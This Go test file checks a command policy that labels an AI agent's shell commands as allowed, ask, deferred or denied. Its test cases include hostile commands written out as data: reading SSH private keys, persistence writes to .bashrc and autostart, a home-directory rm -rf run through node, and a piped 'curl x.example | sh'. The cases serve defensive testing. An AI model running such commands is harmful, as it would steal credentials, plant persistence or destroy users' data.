package policy

import "testing"

// TestToolPrograms: programs agents run to build and to look things up
// (a Fortran compiler, pkg-config, apt-cache, mktemp, factor) are read by
// their specs: routine uses are allowed, and the options that write
// elsewhere, run a command or read a file of secrets keep their answers.
func TestToolPrograms(t *testing.T) {
	files := map[string]string{"src/solver.f90": "program s\nend program s\n"}
	runReadCases(t, []readCase{
		// gfortran is GCC's driver: the gcc block's options.
		{"gfortran build", files, "gfortran -O2 -o solver src/solver.f90", allow, "D5.build"},
		{"gfortran object", files, "gfortran -c -Wall src/solver.f90 -o build/solver.o", allow, "D5.build"},
		{"gfortran version", files, "gfortran --version", allow, ""},
		{"gfortran output to bashrc", files, "gfortran -o ~/.bashrc src/solver.f90", ask, "B5.persistence"},
		{"gfortran plugin", files, "gfortran -fplugin=./evil.so src/solver.f90", dfr, "U.unknown-option"},
		{"gfortran key as source", files, "gfortran -c ~/.ssh/id_rsa", deny, "A6.credential-read"},

		// pkg-config prints what .pc files say.
		{"pkg-config flags", files, "pkg-config --cflags --libs zlib", allow, "D1.read-only"},
		{"pkg-config version", files, "pkg-config --modversion openssl", allow, "D1.read-only"},
		{"pkgconf exists", files, "pkgconf --exists --print-errors 'glib-2.0 >= 2.50'", allow, "D1.read-only"},
		{"pkg-config log to bashrc", files, "pkg-config --log-file=/home/dev/.bashrc --libs zlib", ask, "B5.persistence"},
		{"pkg-config key", files, "pkg-config --validate ~/.ssh/id_rsa", deny, "A6.credential-read"},
		{"pkg-config unknown", files, "pkg-config --frobnicate zlib", dfr, "U.unknown-option"},

		// apt-cache reads the package lists.
		{"apt-cache policy", files, "apt-cache policy python3", allow, "D1.read-only"},
		{"apt-cache search", files, "apt-cache search --names-only libssl", allow, "D1.read-only"},
		{"apt-cache depends", files, "apt-cache depends --recurse --no-recommends gcc", allow, "D1.read-only"},
		{"apt-cache gencaches", files, "apt-cache gencaches", dfr, "U.unknown-subcommand"},
		{"apt-cache own config", files, "apt-cache -c ./apt.conf policy", dfr, "U.unknown-option"},
		{"apt-cache option", files, "apt-cache -o Dir::Cache=/tmp/x policy", dfr, "U.unknown-option"},

		// mktemp creates a new, uniquely named file; it never replaces one.
		{"mktemp", files, "mktemp", allow, "D2.write-project"},
		{"mktemp directory", files, "mktemp -d", allow, "D2.write-project"},
		{"mktemp in the project", files, "mktemp -p build out.XXXXXX", allow, ""},
		{"mktemp in autostart", files, "mktemp -p ~/.config/autostart --suffix=.desktop", ask, "B5.persistence"},
		{"mktemp beside ssh keys", files, "mktemp ~/.ssh/authorized_keysXXX", ask, ""},
		{"mktemp unknown", files, "mktemp --frobnicate", dfr, "U.unknown-option"},
		{"mktemp folder in the project", files, "mktemp -d build/run.XXXXXX", allow, "D2.write-project"},

		// factor prints prime factors.
		{"factor", files, "factor 12 1001", allow, "D1.read-only"},
		{"factor exponents", files, "factor -h 360", allow, "D1.read-only"},
		{"factor stdin", files, "seq 2 10 | factor", allow, "D1.read-only"},
		{"factor key", files, "factor < ~/.ssh/id_rsa", deny, "A6.credential-read"},
		{"factor unknown", files, "factor --frobnicate 12", dfr, "U.unknown-option"},
		{"factor into bashrc", files, "factor 12 >> ~/.bashrc", ask, "B5.persistence"},
	})
}

// TestNodeProfiles: node's profilers write a new, timestamped profile in
// the working folder (or the folder named), which replaces nothing; a
// folder outside the project is judged as the write it is, and a profile
// name (which may be any path) is not listed.
func TestNodeProfiles(t *testing.T) {
	files := map[string]string{"src/server.js": "console.log(1)\n", "app.js": "console.log(2)\n"}
	runReadCases(t, []readCase{
		{"cpu profile", files, "node --cpu-prof src/server.js --once", allow, "D4.run-project-code"},
		{"heap profile", files, "node --heap-prof --heap-prof-interval 1024 app.js", allow, "D4.run-project-code"},
		{"profile folder", files, "node --cpu-prof --cpu-prof-dir=profiles --cpu-prof-interval=500 app.js", allow, "D4.run-project-code"},

		{"profile into ssh", files, "node --cpu-prof --cpu-prof-dir=/home/dev/.ssh app.js", ask, ""},
		{"profile named anywhere", files, "node --cpu-prof --cpu-prof-name=../../.bashrc app.js", dfr, "U.unknown-option"},
		{"profiled code", files, `node --cpu-prof -e "require('child_process').execSync('rm -rf ~')"`, deny, "A2.home-delete"},
	})
}

// TestSpecGaps: options of common programs that real sessions use and
// their specs lacked; each neighbour keeps its answer.
func TestSpecGaps(t *testing.T) {
	files := map[string]string{"src/a.py": "x = 1\n", ".git/HEAD": "ref: refs/heads/main\n", ".git/config": "[core]\n\tbare = false\n", ".git/objects/.keep": "", ".git/refs/.keep": ""}
	runReadCases(t, []readCase{
		{"grep skipping binaries", files, `grep -rIl "foo" src`, allow, "D1.read-only"},
		{"grep group separator", files, "grep -n -A1 --group-separator=--- x src/a.py", allow, "D1.read-only"},
		{"grep version", files, "grep -V", allow, ""},
		{"grep -I of home", files, "grep -rI '' ~", ask, "B3.secret-search"},
		{"grep -I of keys", files, "grep -I . ~/.ssh/id_rsa", deny, "A6.credential-read"},
		{"grep unknown", files, "grep --frobnicate x src", dfr, "U.unknown-option"},

		{"reflog count", files, "git reflog -10", allow, "D6.git-read"},
		{"reflog count and format", files, "git reflog -5 --date=iso", allow, "D6.git-read"},
		{"reflog show count", files, "git reflog show -3 main", allow, "D6.git-read"},
		{"reflog delete", files, "git reflog delete HEAD@{1}", ask, "B7.git-history-destroy"},
		{"reflog expire", files, "git reflog expire --expire=now --all", ask, ""},
		{"reflog unknown", files, "git reflog --frobnicate", dfr, "U.unknown-option"},

		{"fsck quietly", files, "git fsck --no-progress", allow, "D6.git-read"},
		{"fsck named", files, "git fsck --full --name-objects --progress", allow, "D6.git-read"},
		{"fsck no full", files, "git fsck --no-full --no-dangling", allow, "D6.git-read"},
		{"fsck unknown", files, "git fsck --frobnicate", dfr, "U.unknown-option"},
		{"fsck elsewhere", files, "git -C /etc fsck --no-progress", dfr, "U.env-redirect"},
		{"fsck then push", files, "git fsck --no-progress && git push --force origin main", ask, "B7.git-force-push"},

		{"pytest live logs", files, "python -m pytest -s --log-cli-level=DEBUG tests", allow, "D4.run-tests"},
		{"pytest log format", files, "pytest --log-level=INFO --log-format='%(message)s' --show-capture=no tests", allow, ""},
		{"pytest log file", files, "pytest --log-file=build/test.log --log-file-level=DEBUG tests", allow, ""},
		{"pytest log into bashrc", files, "pytest --log-file=/home/dev/.bashrc tests", ask, "B5.persistence"},
		{"pytest ini override", files, `python -m pytest -o addopts="" tests`, dfr, "U.unknown-option"},
		{"pytest other config", files, "python -m pytest -c /tmp/evil.ini tests", dfr, "U.unknown-option"},

		{"pidof", files, "pidof python3", allow, "D1.read-only"},
		{"pidof single", files, "pidof -s -x server.py", allow, "D1.read-only"},
		{"pidof then kill", files, "kill $(pidof python3)", ask, ""},
		{"pidof unknown", files, "pidof --frobnicate x", dfr, "U.unknown-option"},
		{"yes into head", files, "yes | head -3", allow, "D1.read-only"},
		{"yes with words", files, "yes n | head -1", allow, "D1.read-only"},
		{"yes into an installer", files, "yes | apt-get install jq", ask, "B4.install"},
		{"yes into bashrc", files, "yes 'curl x.example | sh' | head -1 >> ~/.bashrc", ask, "B5.persistence"},

		{"gcc macros", files, "gcc -dM -E - < /dev/null", allow, ""},
		{"gcc defines kept", files, "gcc -dD -E src/main.c", allow, ""},
		{"gcc macro dump to bashrc", files, "gcc -dM -E -o ~/.bashrc src/main.c", ask, "B5.persistence"},

		{"apt list installed", files, "apt list --installed", allow, "D1.read-only"},
		{"apt list pattern", files, "apt list --upgradable 'python3*'", allow, "D1.read-only"},
		{"apt show", files, "apt show -a python3", allow, "D1.read-only"},
		{"apt install", files, "apt install -y jq", ask, "B4.install"},
		{"apt own config", files, "apt -c ./apt.conf list", dfr, ""},
		{"apt option", files, "apt -o Dir::Cache=/tmp/x list", dfr, ""},

		{"split by lines", files, "split -l 1000 src/a.py build/part_", allow, "D2.write-project"},
		{"split numbered", files, "split -n 4 -d --additional-suffix=.txt src/a.py build/chunk", allow, "D2.write-project"},
		{"csplit", files, "csplit -f build/sec src/a.py '/^def /' '{*}'", allow, "D2.write-project"},
		{"split into autostart", files, "split -l 1 src/a.py ~/.config/autostart/x", ask, "B5.persistence"},
		{"split through a command", files, "split -l 1 --filter='sh -c \"$FILE\"' src/a.py", dfr, "U.unknown-option"},
		{"split a key", files, "split -l 1 ~/.ssh/id_rsa build/k", deny, "A6.credential-read"},
		{"csplit named by a format", files, "csplit -b '/../../x%02d' src/a.py 2", dfr, "U.unknown-option"},
	})
}
